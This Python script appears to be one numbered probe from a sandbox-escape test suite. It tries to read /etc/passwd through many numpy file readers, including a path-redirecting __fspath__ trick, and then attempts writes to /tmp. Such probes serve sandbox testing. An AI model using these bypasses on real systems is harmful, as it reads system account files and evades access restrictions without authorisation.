# escape: 300
# packages: numpy
# technique: numpy's own readers and writers of files, by every way in
# family: dfile
# goal: read-file
# first-seen: numpy.fromfile, ndarray.tofile, memmap, DataSource, lib.format
import numpy as np
def read_etc(f):
    try: data = bytes(f())
    except Exception: return
    if b"root:" in data: print("ESCAPED:" + repr(data[:40]))
read_etc(lambda: np.fromfile("/etc/passwd", dtype="u1"))
read_etc(lambda: np.core.multiarray.fromfile("/etc/passwd", dtype="u1"))
read_etc(lambda: np.memmap("/etc/passwd", dtype="u1", mode="r"))
read_etc(lambda: np.core.records.fromfile("/etc/passwd", formats="u1", shape=99).tobytes())
read_etc(lambda: np.lib.npyio.DataSource().open("/etc/passwd").read().encode())
read_etc(lambda: np.loadtxt("/etc/passwd", dtype=str, delimiter="\n").tobytes())
read_etc(lambda: "".join(np.genfromtxt("/etc/passwd", dtype=str, delimiter="\n")).encode())
read_etc(lambda: np.loadtxt("file:///etc/passwd", dtype=str, delimiter="\n").tobytes())
class Path(str):
    def __fspath__(self): return "/etc/passwd"
read_etc(lambda: np.fromfile(Path("x"), dtype="u1"))
for write in (lambda p: np.arange(3).tofile(p), lambda p: np.save(p, np.arange(3)),
              lambda p: np.savetxt(p, [1]), lambda p: np.arange(3).dump(p),
              lambda p: np.memmap(p, dtype="u1", mode="w+", shape=4).flush()):
    try: write("/tmp/escape-300")
    except Exception: pass
